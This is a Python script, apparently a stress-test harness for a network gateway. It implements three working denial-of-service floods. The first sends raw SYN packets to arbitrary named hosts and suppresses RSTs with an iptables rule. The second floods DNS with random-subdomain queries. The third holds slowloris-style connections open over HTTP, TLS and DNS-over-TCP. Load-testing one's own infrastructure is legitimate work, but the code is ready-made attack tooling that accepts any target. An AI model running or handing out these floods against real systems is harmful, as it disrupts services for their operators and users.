"""Floods of the gateway.

flood.py syn COUNT PORT NAME...: half-open connections, the same number to each name; nothing is said to what is answered
flood.py questions COUNT ZONE: questions about COUNT names
flood.py slow COUNT HOST OTHER: connections that say a little and then no more, and meanwhile an ordinary request
"""
import http.client
import json
import subprocess
import sys
import threading

from link import *


def column(frames, length, at, values):
    """Writes one byte of each of the frames in a buffer."""
    frames[at::length] = bytes(values)


def many(frame, count):
    return bytearray(frame * count)


def numbered(frames, length, count, at, balance, first=1024):
    """A number of its own for each frame in two bytes at `at`, and its complement at `balance`, so that all checksums stay as they are."""
    numbers = [first + number for number in range(count)]
    column(frames, length, at, (number >> 8 for number in numbers))
    column(frames, length, at + 1, (number & 255 for number in numbers))
    column(frames, length, balance, (~number >> 8 & 255 for number in numbers))
    column(frames, length, balance + 1, (~number & 255 for number in numbers))


def syn(count, port, names):
    card = Card()
    # Ports below 1024 are left out, and each (port, port) pair is used once.
    each = count // len(names)
    most = 60000
    # The kernel knows none of these connections, and would reset them.
    quiet = ['iptables', '-w', '-I', 'OUTPUT', '-o', 'eth0', '-p', 'tcp', '--tcp-flags', 'RST', 'RST', '-j', 'DROP']
    subprocess.run(quiet, check=True)
    sent = 0
    try:
        for name in names:
            to = socket.gethostbyname(name)
            for block in range(0, each, most):
                wanted = min(most, each - block)
                # The source port is 0 and the lower half of the sequence number 0xffff: port and complement add up to the same.
                frame = tcp(to, port + block // most, 0, seq=0xffff)
                frames = many(frame, wanted)
                numbered(frames, len(frame), wanted, 34, 40)
                sent += card.send_many(frames, len(frame))
    finally:
        quiet[2] = '-D'
        subprocess.run(quiet, check=True)
    return {'sent': sent}


def questions(count, zone):
    card = Card()
    labels = b''.join(bytes([len(label)]) + label.encode() for label in zone.split('.'))
    message = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + b'\x09escape000' + labels + b'\0' + struct.pack('!HH', 16, 1)
    # Without a checksum, which IPv4 allows.
    frame = udp(GATEWAY, 53, message, none=True)
    frames = many(frame, count)
    for at, unit in ((61, 100), (62, 10), (63, 1)):
        column(frames, len(frame), at, (48 + number // unit % 10 for number in range(count)))
    # Names differ in three more letters.
    for at, unit in ((58, 1000), (59, 10000), (60, 100000)):
        column(frames, len(frame), at, (97 + number // unit % 10 for number in range(count)))
    ports = [1024 + number % 60000 for number in range(count)]
    column(frames, len(frame), 34, (number >> 8 for number in ports))
    column(frames, len(frame), 35, (number & 255 for number in ports))
    return {'sent': card.send_many(frames, len(frame)), 'name': bytes(frames[54:64]).decode()}


def slow(count, host, other):
    to = socket.gethostbyname(host)

    def opened(port, said):
        held = []
        for _ in range(count):
            s = socket.create_connection((to, port), 30)
            s.sendall(said)
            held.append(s)
        return held

    # A head, a handshake and a record that never end, and questions by TCP.
    held = opened(80, b'POST /open/slow HTTP/1.1\r\nHost: ' + host.encode() + b'\r\nX-Escape: slow')
    held += opened(7, b'\x16\3\1\2\0\1\0\1')
    questions = []
    for _ in range(80):
        try:
            s = socket.create_connection((GATEWAY, 53), 30)
            s.sendall(b'\0')
            questions.append(s)
        except ConnectionRefusedError:
            pass
    # Last: a handshake may take half a minute.
    held += opened(443, b'\x16\3\1\2\0\1\0\1')
    statuses = []

    def ask():
        connection = http.client.HTTPConnection(other, 80, timeout=30)
        connection.request('GET', '/')
        statuses.append(connection.getresponse().status)

    # While these go on byte by byte, others are served.
    threads = [threading.Thread(target=ask) for _ in range(3)]
    for turn in range(3):
        for s in held:
            s.sendall(b'x')
        threads[turn].start()
    for thread in threads:
        thread.join()
    return {'held': len(held), 'questions': len(questions), 'statuses': statuses}


what, *words = sys.argv[1:]
print(json.dumps(syn(int(words[0]), int(words[1]), words[2:]) if what == 'syn' else questions(int(words[0]), words[1]) if what == 'questions' else slow(int(words[0]), *words[1:])))
